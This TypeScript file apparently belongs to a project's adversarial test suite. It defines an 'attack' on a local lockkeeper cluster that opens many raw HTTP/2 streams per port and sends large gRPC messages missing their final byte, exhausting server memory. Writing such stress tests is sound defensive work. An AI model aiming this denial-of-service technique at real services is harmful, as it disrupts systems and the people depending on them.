import { setTimeout as sleep } from 'node:timers/promises'
import type { LocalCluster } from '../../cluster/local-cluster.js'
import type { Attack } from '../attack.js'
import { FRAME, frame, RawHttp2, whole } from '../raw-http2.js'

const CONNECTIONS_PER_PORT = 8
const STREAMS = 100
const PIECE_BYTES = 16_000
const PIECES = 200
const CLIENT_PATH = '/lockkeeper.v1.Lockkeeper/Attach'
const PEER_PATH = '/lockkeeper.peer.v1.Peer/Stream'

/** Each message lacks its last byte, so that nothing ever comes of it. */
export const attack: Attack = {
  summary: `messages of 3 MB on ${STREAMS} streams of ${CONNECTIONS_PER_PORT} connections at each port, without their ends`,
  run: async (cluster: LocalCluster) => {
    const ports = [
      ...cluster.clientAddresses.map((address) => ({ address, path: CLIENT_PATH })),
      ...cluster.peerAddresses.map((address) => ({ address, path: PEER_PATH })),
    ]
    const targets = ports.flatMap((port) => Array<typeof port>(CONNECTIONS_PER_PORT).fill(port))
    const sent = await Promise.all(targets.map(({ address, path }) => sendHalf(address, path)))
    return { sentMiB: Math.round(sent.reduce((sum, bytes) => sum + bytes, 0) / 2 ** 20) }
  },
}

async function sendHalf(address: string, path: string): Promise<number> {
  const raw = await RawHttp2.open(address)
  const streams: number[] = []
  for (let k = 0; k < STREAMS; k++) {
    raw.write(
      raw.call(path),
      frame(FRAME.data, 0, raw.stream, whole(Buffer.alloc(0), PIECE_BYTES * PIECES + 1)),
    )
    streams.push(raw.stream)
  }
  let sentBytes = 0
  for (let k = 0; k < PIECES && !raw.isClosed; k++) {
    for (const stream of streams) raw.write(frame(FRAME.data, 0, stream, Buffer.alloc(PIECE_BYTES)))
    sentBytes += PIECE_BYTES * streams.length
    await sleep(100)
  }
  raw.close()
  return sentBytes
}
